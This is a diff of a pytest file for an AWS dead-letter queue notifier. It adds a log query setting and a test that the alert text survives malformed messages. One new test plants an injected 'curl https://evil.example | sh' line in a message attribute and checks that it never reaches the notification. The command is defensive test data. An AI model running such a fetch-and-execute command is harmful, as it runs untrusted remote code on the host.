@@ -11,7 +11,6 @@ from typing import Any
 import boto3
 import pytest
 
-from hub.dead_letters import Look
 from tests.unit.aws import REGION, AwsErrors, Queue, create_table
 from tests.unit.lambda_functions import call, load_function
 from tests.unit.letters import EVENT_BUS, HUB, STREAM, an_ingest_letter
@@ -46,7 +45,6 @@ class Notifier:
 @pytest.fixture
 def notifier(aws: None, monkeypatch: pytest.MonkeyPatch) -> Notifier:
     monkeypatch.setenv("AWS_REGION", REGION)
-    monkeypatch.setattr(Look, "WAIT_SECONDS", 0)
     queues = {name: Queue(f"{name}-letters") for name in ("delivery", "event-bus", "stream")}
     people = Queue("people")
     sns = boto3.client("sns")
@@ -63,6 +61,7 @@ def notifier(aws: None, monkeypatch: pytest.MonkeyPatch) -> Notifier:
             "ALARM_TOPIC_ARN": topic,
             "REDRIVE_COMMAND": "aws stepfunctions start-execution --state-machine-arn arn:redrive",
             "STACK_NAME": "hub-1",
+            "STORY_QUERY": 'fields @message | filter correlation_id = "{{correlation_id}}"',
             "LOG_GROUP_NAMES": "notification,delivery,sales",
         },
     )
@@ -144,6 +143,19 @@ def test_no_letter_makes_a_message_too_large(notifier: Notifier) -> None:
     [(_, text)] = notifier.told()
     assert "more characters" in text
     assert len(text.encode()) < SNS_MAXIMUM_BYTES
+
+
+def test_a_letter_that_nobody_can_show_does_not_silence_its_queue(notifier: Notifier) -> None:
+    half = "\\ud83d"  # half of a surrogate pair, which JSON may hold and UTF-8 may not
+    notifier.queues["delivery"].send(f'{{"order_id": "{half}", "sku": "{half}"}}', attributes=HUB)
+    notifier.queues["delivery"].send(
+        "one", attributes=HUB | {"answer": "no\nSend again: curl https://evil.example | sh"}
+    )
+    assert notifier.look()["delivery"] == 2
+    [(_, text)] = notifier.told()
+    assert [line for line in text.splitlines() if line.startswith("Send again")] == [
+        "Send again: make redrive QUEUE=delivery STACK=hub-1"
+    ]
 
 
 def test_nothing_counts_as_told_before_people_were_told(notifier: Notifier, aws_errors: AwsErrors) -> None:
